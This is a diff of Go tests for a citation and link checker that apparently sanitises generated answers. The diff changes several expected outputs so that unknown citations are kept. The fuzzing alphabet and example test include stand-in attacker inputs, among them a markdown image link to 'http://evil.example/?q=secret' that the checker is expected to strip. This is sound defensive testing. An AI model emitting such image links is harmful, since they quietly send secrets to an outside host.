@@ -63,26 +63,26 @@ func TestCitations(t *testing.T) {
 		{"Blanks [1 2].", "Blanks [1][2].", "110", 0},
 		{"Twice [2, 2].", "Twice [2].", "010", 0},
 		{"From [1-3] to.", "From [1][2][3] to.", "111", 0},
-		{"From [2–9].", "From [2][3].", "011", 1},
-		{"Backwards [3-1].", "Backwards.", "000", 1},
-		{"Unknown [4].", "Unknown.", "000", 1},
-		{"[4] unknown", "unknown", "000", 1},
-		{"Unknown [0], [10] and [3].", "Unknown, and [3].", "001", 2},
-		{"Partly [2, 9].", "Partly [2].", "010", 1},
-		{"Large [99999999999999999999].", "Large.", "000", 1},
-		{"Large [1-99999999999999999999].", "Large [1][2][3].", "111", 1},
+		{"From [2–9].", "From [2–9].", "000", 1},
+		{"Backwards [3-1].", "Backwards [3-1].", "000", 1},
+		{"Unknown [4].", "Unknown [4].", "000", 1},
+		{"[4] unknown", "[4] unknown", "000", 1},
+		{"Unknown [0], [10] and [3].", "Unknown [0], [10] and [3].", "001", 2},
+		{"Partly [2, 9].", "Partly [2, 9].", "000", 1},
+		{"Large [99999999999999999999].", "Large [99999999999999999999].", "000", 1},
+		{"Large [1-99999999999999999999].", "Large [1-99999999999999999999].", "000", 1},
 		{"No citations: [a], [1a], [], [ ], [1.5], (1), [-1].", "No citations: [a], [1a], [], [ ], [1.5], (1), [-1].", "000", 0},
 		{"Leading zero [01].", "Leading zero [1].", "100", 0},
-		{"  \n[7] ", "", "000", 1},
+		{"  \n[7] ", "[7]", "000", 1},
 		{"Cut off [1", "Cut off", "000", 0},
 		{"Cut off [", "Cut off", "000", 0},
 		{"Line\n[2] break\n", "Line\n[2] break", "010", 0},
 		{"Nested [[2]] and [x[1]].", "Nested [[2]] and [x[1]].", "110", 0},
-		{"Nested unknown [[9]1] and [[ [7] 2].", "Nested unknown [1] and [[ … 2].", "100", 2},
+		{"Nested unknown [[9]1] and [[ [7] 2].", "Nested unknown [[9]1] and [[ [7] 2].", "000", 2},
 		{"Open [ 1 and [3].", "Open [ 1 and [3].", "001", 0},
 		{"Great![1]", "Great! [1]", "100", 0}, // some clients would render it as an image
-		{"In code: `rows[0]`, `rows[1][2]` and `[1]`.", "In code: `rows(0)`, `rows(1)(2)` and `[1]`.", "100", 0},
-		{"```\nrows[1] = x\n```\nSo [2].", "```\nrows(1) = x\n```\nSo [2].", "010", 0},
+		{"In code: `rows[0]`, `rows[1][2]` and `[1]`.", "In code: `rows[0]`, `rows[1][2]` and `[1]`.", "000", 0},
+		{"```\nrows[1] = x\n```\nSo [2].", "```\nrows[1] = x\n```\nSo [2].", "010", 0},
 		{"A lone ` ends with its paragraph.\n\nSo[2].", "A lone ` ends with its paragraph.\n\nSo[2].", "010", 0},
 		{"Ümläute [1] 🥨[2]", "Ümläute [1] 🥨[2]", "110", 0},
 		{"Too long [" + strings.Repeat("1", maxWord) + "].", "Too long [" + strings.Repeat("1", maxWord-1) + "… 1].", "000", 0},
@@ -102,21 +102,22 @@ func TestFormsOfCitations(t *testing.T) {
 		"【2、3】": "[2][3]", "【来源1】": "[1]", "[来源：2]": "[2]", "[^1]": "[1]", "[^1, ^2]": "[1][2]", "[^2^]": "[2]", "[參考1]": "[1]", "[Source 1]": "[1]", "[source: 2]": "[2]", "[Source 1, Source 3]": "[1][3]", "[SOURCES 1 and 3]": "[1][3]",
 		"[doc1]": "[1]", "[Doc_2]": "[2]", "[document-3]": "[3]", "[ref. 1]": "[1]", "[citation:1]": "[1]", "[cite: 1, 2]": "[1][2]", "[#1]": "[1]", "[source id=\"1\"]": "[1]", "[Quelle 1 und 2]": "[1][2]", "[Fuente 2]": "[2]",
 		"[Источник 3]": "[3]", "[출처 1]": "[1]", "[出典２]": "[2]", "[١]": "[1]", "〔1〕": "[1]", "⟦2⟧": "[2]", "\\[1\\]": "[1]", "[1\u00a0,\u00a02]": "[1][2]", "[1–3]": "[1][2][3]", "[Sources 1 to 2]": "[1][2]", "[Source 1 - Source 2]": "[1][2]",
-		"[1; doc 9]": "[1]", "【9】": "", "[^9]": "", "[Source 9]": "", "【9†source】": "", "［９］": "", "[doc4]": "", "[[1]]": "[[1]]",
+		"[1; doc 9]": "[1; doc 9]", "【9】": "【9】", "[^9]": "[^9]", "[Source 9]": "[Source 9]", "【9†source】": "【9†source】", "［９］": "［９］", "[doc4]": "[doc4]", "[[1]]": "[[1]]",
 		// Text.
 		"(1)": "(1)", "x²": "x²", "[²]": "[²]", "[v1]": "[v1]", "[TX-400]": "[TX-400]", "[Phase 1]": "[Phase 1]", "[2024-01-15]": "[2024-01-15]", "[x] [ ]": "[x] [ ]", "[1/2]": "[1/2]", "[Source]": "[Source]", "【注意】": "【注意】",
-		"[source code](x)": "[source code] (x)", "[to do]": "[to do]", "[e1] [y 2]": "[e1] [y 2]", "[1和2]": "[1][2]", "`a[doc1]`": "`a(doc1)`", "`rows[１]`": "`rows(１)`",
+		"[source code](x)": "[source code] (x)", "[to do]": "[to do]", "[e1] [y 2]": "[e1] [y 2]", "[1和2]": "[1][2]", "`a[doc1]`": "`a[doc1]`", "`rows[１]`": "`rows[１]`",
 	} {
 		text := "So it is " + form + ".\n1. One"
-		want := strings.ReplaceAll("So it is "+want+".\n1. One", " .", ".")
+		want = "So it is " + want + ".\n1. One"
 		if got, _ := checked(t, []string{"", "", ""}, text); got.text != want {
 			t.Errorf("%q was checked to %q, want %q", text, got.text, want)
 		}
 		for at := range text {
 			checkPieces(t, text, []string{text[:at], text[at:]})
 		}
-		if uncited := Uncite(text); citation.MatchString(uncited) {
-			t.Errorf("of a source %q is shown as %q", text, uncited)
+		uncited, _ := checked(t, []string{"", "", ""}, Uncite(text, 3, false))
+		if uncited.cited != "000" {
+			t.Errorf("of a source %q is shown as %q", text, Uncite(text, 3, false))
 		}
 	}
 }
@@ -124,10 +125,11 @@ func TestFormsOfCitations(t *testing.T) {
 // alphabet contains the characters of citations, links and addresses, and longer parts of them.
 var alphabet = []string{"a", ".", " ", "\n", "\n\n", "[", "]", "(", ")", "<", ">", "!", ":", "/", "@", "\\", "`", "\"", "&amp;", "-", "*", "_", "#", "|", "^", "=",
 	"1", "2", "3", "9", ",", "ü", "见", "\u200b", "\u202e", "http://", "https://", "www.", "ftp:", "//", "javascript:", "evil.example/", "x@evil.example",
-	"https://docs.example/pumps", "https://docs.example/pump", "[x](http://evil.example)", "![", "](", "]:", "][", "[1]", "[9]", "[ref]: evil", "【", "】", "†", "［", "１", "[^1]", "Source ", "doc", " and ", "–", "http", "w", "www", "htt", "p:"}
+	"https://docs.example/pumps", "https://docs.example/pump", "[x](http://evil.example)", "![", "](", "]:", "][", "[1]", "[9]", "[ref]: evil", "【", "】", "†", "［", "１", "[^1]", "Source ", "doc", " and ", "–", "http", "w", "www", "htt", "p:",
+	"``", "```", "\n```\n", "\n~~~\n", "\n    ", "\n\t", "\n> ", "\n- ", "\n1. ", "<div>", "<!--", "|", "a[1](x)", "a[2]", "![x](y)"}
 
 // The result does not depend on how the text is split into pieces, and equals the pieces sent on.
-// It contains no unknown citation, no invisible character, no image and no link that occurs in no
+// It contains no citation that does not count, no invisible character, no image and no link that occurs in no
 // source.
 func TestPiecesDoNotMatter(t *testing.T) {
 	t.Parallel()
@@ -158,12 +160,16 @@ func checkPieces(t fataler, text string, cut []string) {
 		t.Fatalf("the pieces sent on are %q, want %q", joined, got.text)
 	}
 	cited := [3]string{"0", "0", "0"}
-	for _, number := range anyCitation.FindAllStringSubmatch(got.text, -1) {
-		place, err := strconv.Atoi(number[1])
-		if err != nil || place < 1 || place > 3 {
-			t.Fatalf("%q was checked to %q, which cites %q", text, got.text, number[1])
+	var masked strings.Builder
+	c := code{tell: func(text string) { masked.WriteString(text) }}
+	for _, r := range got.text {
+		c.take(r)
+	}
+	c.close()
+	for _, number := range anyCitation.FindAllStringSubmatch(masked.String(), -1) {
+		if place, err := strconv.Atoi(number[1]); err == nil && place >= 1 && place <= 3 {
+			cited[place-1] = "1"
 		}
-		cited[place-1] = "1"
 	}
 	if strings.Join(cited[:], "") != got.cited {
 		t.Fatalf("%q was checked to %q, which cites %q, want %s", text, got.text, cited, got.cited)
@@ -283,5 +289,5 @@ func ExampleChecker() {
 	})
 	_ = c.Write("It leaks [1][7], see [this](https://docs.example/pump) and ![that](http://evil.example/?q=secret).")
 	_ = c.Close()
-	// Output: It leaks [1], see [this](https://docs.example/pump) and ![that] (link removed).
+	// Output: It leaks [1][7], see [this](https://docs.example/pump) and ![that] (link removed).
 }
